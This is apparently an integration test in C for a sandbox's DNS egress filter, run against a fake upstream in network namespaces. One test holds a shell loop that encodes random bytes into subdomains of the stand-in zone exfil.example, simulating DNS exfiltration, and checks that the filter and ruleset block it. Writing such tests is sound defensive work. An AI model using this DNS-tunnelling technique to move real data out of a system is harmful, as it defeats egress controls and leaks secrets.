/* tests/integration/net_fakenet_test.c — the egress chain end to end on a
 * fake internet: the test moves into a "host" netns of its own
 * (tests/lib/netns_fixture.h) where dnsmasq is the upstream authoritative
 * server (192.0.2.53, --log-queries: every query reaching it is counted);
 * the sandbox netns is the real one (net/netns.h) with the ruleset of the
 * policy (net/ruleset.h); the DNS filter (net/dnsfilter.h) gets its hooks
 * from net/egress.h, its listeners in the sandbox netns and its upstream
 * sockets in the host one, as in the egress process.  A client in the
 * sandbox netns (glibc's resolver, `getent`, with the sandbox's resolv.conf)
 * resolves an allowed name — its address is then in the sandbox's set — and
 * not a non-allowed one; BL-37: many random subdomains of a non-allowed zone
 * and a direct query to the upstream server bring ZERO queries to it. */
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include "net/dnsfilter.h"
#include "net/egress.h"
#include "net/netns.h"
#include "net/ruleset.h"
#include "netns_fixture.h"
#include "rm_tree.h"
#include "util.h"

static struct {
  int host;
  pid_t dnsmasq;
  char dir[64], log[128], ns[128], resolv[128], direct[128];
  struct an_egress_policy *policy;
  struct an_egress_ctx ctx;
  struct an_dnsfilter *f;
  int refused;
} E;

static void sink(void *c, const struct an_net_event *ev) {
  (void) c;
  if (ev->kind == AN_NET_EV_DNS && ev->verdict == AN_NET_DENY) E.refused++;
}

static bool dnsmasq_up(void *arg) {
  (void) arg;
  char *log = an_test_read_file(E.log, NULL);
  bool up = log && strstr(log, "started");
  free(log);
  return up;
}

static void setup(void) {
  memset(&E, 0, sizeof E);
  if (an_test_sh("command -v dnsmasq >/dev/null && command -v getent >/dev/null") != 0)
    cr_skip_test("dnsmasq or getent not installed");
  E.host = nf_host_enter();
  snprintf(E.dir, sizeof E.dir, "/tmp/an-fakenet-%d", (int) getpid());
  cr_assert_eq(mkdir(E.dir, 0700), 0);
  snprintf(E.log, sizeof E.log, "%s/dnsmasq.log", E.dir);
  cr_assert_eq(an_test_sh("ip addr add 192.0.2.53/32 dev lo"), 0);
  E.dnsmasq = nf_spawn(E.host, "/dev/null",
      "exec dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts "
      "--bind-interfaces --listen-address=192.0.2.53 --port=53 --user=root --group=root "
      "--pid-file=%s/pid --log-queries --log-facility=%s "
      "--host-record=pkg.example,203.0.113.10,2001:db8::10 --host-record=other.example,203.0.113.10 "
      "--address=/exfil.example/203.0.113.66", E.dir, E.log);
  cr_assert(nf_wait(dnsmasq_up, NULL, 250), "dnsmasq did not start (log %s)", E.log);

  snprintf(E.ns, sizeof E.ns, "%s/netns", E.dir);
  an_error_t err = NULL;
  cr_assert_eq(an_netns_create(E.ns, &err), 0, "%s", err ? err->msg : "");
  cr_assert_eq(an_egress_policy_new(AN_EGRESS_ALLOWLIST, &E.policy, &err), 0);
  cr_assert_eq(an_egress_policy_add(E.policy, "pkg.example", &err), 0);
  cr_assert_eq(an_ruleset_load(E.ns, E.policy, 1000, &err), 0, "%s", err ? err->msg : "");
  E.ctx = (struct an_egress_ctx){.policy = E.policy, .netns_path = E.ns, .sink = sink};
  struct an_net_hooks hooks;
  an_egress_hooks(&E.ctx, &hooks);
  int sb = open(E.ns, O_RDONLY | O_CLOEXEC);
  cr_assert_geq(sb, 0);
  struct sockaddr_storage up;
  socklen_t len;
  nf_sockaddr("192.0.2.53", 53, &up, &len);
  struct an_dnsfilter_config cfg = {
    .udp_fd = nf_socket(sb, SOCK_DGRAM, "127.0.0.1", 53),
    .tcp_fd = nf_socket(sb, SOCK_STREAM, "127.0.0.1", 53),
    .upstreams = &up, .n_upstreams = 1,
  };
  close(sb);
  cr_assert_eq(an_dnsfilter_new(&cfg, &hooks, &E.f, &err), 0, "%s", err ? err->msg : "");
  snprintf(E.resolv, sizeof E.resolv, "%s/resolv.conf", E.dir);
  an_test_write_file(E.resolv, "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n", 49, 0644);
  snprintf(E.direct, sizeof E.direct, "%s/direct.conf", E.dir);
  an_test_write_file(E.direct, "nameserver 192.0.2.53\noptions timeout:1 attempts:1\n", 50, 0644);
}

static void teardown(void) {
  an_dnsfilter_free(E.f);
  nf_stop(E.dnsmasq);
  an_error_t err = NULL;
  if (E.ns[0]) an_netns_remove(E.ns, &err);
  an_error_free(&err);
  an_egress_policy_free(E.policy);
  if (E.dir[0]) an_test_rm_tree(E.dir);
}

TestSuite(net_fakenet, .init = setup, .fini = teardown, .timeout = 120);

/* `sh -c script` in the sandbox netns with `resolv` as /etc/resolv.conf (a
 * mount namespace of its own), the DNS filter served meanwhile; its exit
 * status, its output in *out (may be NULL). */
static int in_sandbox(const char *resolv, const char *script, char **out) {
  char outp[160];
  snprintf(outp, sizeof outp, "%s/out", E.dir);
  int fd = open(E.ns, O_RDONLY | O_CLOEXEC);
  pid_t pid = fork();
  cr_assert_geq(pid, 0);
  if (pid == 0) {
    if (setns(fd, CLONE_NEWNET) < 0 || unshare(CLONE_NEWNS) < 0 ||
        mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
        mount(resolv, "/etc/resolv.conf", NULL, MS_BIND, NULL) < 0)
      _exit(120);
    int o = open(outp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    dup2(o, 1);
    dup2(o, 2);
    execl("/bin/sh", "sh", "-c", script, (char *) NULL);
    _exit(121);
  }
  close(fd);
  int st = 0;
  for (;;) {
    struct pollfd p = {.fd = an_dnsfilter_fd(E.f), .events = POLLIN};
    poll(&p, 1, 20);
    an_error_t err = NULL;
    cr_assert_eq(an_dnsfilter_dispatch(E.f, &err), 0, "%s", err ? err->msg : "");
    pid_t w = waitpid(pid, &st, WNOHANG);
    if (w == pid) break;
  }
  if (out) *out = an_test_read_file(outp, NULL);
  cr_assert(WIFEXITED(st) && WEXITSTATUS(st) < 120, "sandbox child setup failed (status %d)", st);
  return WEXITSTATUS(st);
}

static int upstream_queries(const char *name) {
  char *log = an_test_read_file(E.log, NULL);
  int n = 0;
  for (const char *p = log; (p = strstr(p, "query[")); p++) {
    const char *eol = strchr(p, '\n');
    const char *hit = strstr(p, name);
    if (hit && (!eol || hit < eol)) n++;
  }
  free(log);
  return n;
}

static bool in_set(const char *set, const char *addr) {
  char cmd[512];
  snprintf(cmd, sizeof cmd, "nsenter --net=%s nft list set inet agentnest %s | grep -q '%s'", E.ns, set, addr);
  return an_test_sh("%s", cmd) == 0;
}

Test(net_fakenet, allowed_name_resolves_through_the_filter_and_is_admitted) {
  char *out = NULL;
  int st = in_sandbox(E.resolv, "getent ahostsv4 pkg.example", &out);
  cr_assert_eq(st, 0, "getent: %s", out);
  cr_assert(strstr(out, "203.0.113.10"), "%s", out);
  free(out);
  cr_assert(in_set("dyn4", "203.0.113.10"), "the answer's address is in the sandbox's set");
  cr_assert_geq(upstream_queries("pkg.example"), 1, "the query reached the upstream");
  cr_assert_neq(in_sandbox(E.resolv, "getent ahostsv4 other.example", NULL), 0, "a name not on the list");
  cr_assert_eq(upstream_queries("other.example"), 0);
}

Test(net_fakenet, bl_37_dns_exfiltration_reaches_no_upstream) {
  /* labels carrying data, as an exfiltrating program would make them */
  int st = in_sandbox(E.resolv,
                      "i=0; while [ $i -lt 20 ]; do "
                      "getent hosts $(head -c 8 /dev/urandom | od -An -tx1 | tr -d ' \\n').$i.exfil.example "
                      "&& exit 1; i=$((i+1)); done; getent hosts exfil.example && exit 1; exit 0", NULL);
  cr_assert_eq(st, 0, "an exfil name resolved");
  cr_assert_geq(E.refused, 21, "every query was refused by the filter (%d)", E.refused);
  /* DNS straight to the upstream server is dropped by the ruleset */
  cr_assert_neq(in_sandbox(E.direct, "getent hosts direct.exfil.example", NULL), 0);
  cr_assert_eq(upstream_queries("exfil.example"), 0, "a query for the exfil zone reached the upstream");
  /* and the log does work: an allowed name is seen there */
  cr_assert_eq(in_sandbox(E.resolv, "getent hosts pkg.example", NULL), 0);
  cr_assert_geq(upstream_queries("pkg.example"), 1);
}
